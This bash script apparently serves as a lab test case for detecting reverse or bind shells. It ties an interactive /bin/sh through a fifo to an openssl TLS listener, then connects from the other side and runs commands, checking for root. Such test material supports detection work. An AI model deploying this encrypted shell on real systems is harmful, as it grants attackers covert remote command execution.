#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=new-listener,reverse-shell half=report tool=openssl,dash far=out seconds=24 parts=dns
# A fifo joins a shell and openssl s_server, which waits on a port of the office side; somebody outside comes in TLS and types.
if [ "$1" = out ]; then sleep 6; (sleep 1; for line in id "ls /" "uname -a" exit; do echo "$line"; sleep 2; done) | timeout 14 openssl s_client -quiet -connect 10.30.0.2:9443 >"$LAB/heard" 2>/dev/null; exit 0; fi
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 30 -subj /CN=x -keyout "$LAB/b.key" -out "$LAB/b.pem" 2>/dev/null
mkfifo "$LAB/f"; timeout 20 sh -c "/bin/sh -i <$LAB/f 2>&1 | openssl s_server -quiet -accept 10.30.0.2:9443 -cert $LAB/b.pem -key $LAB/b.key >$LAB/f 2>/dev/null"; grep -q uid=0 "$LAB/heard"
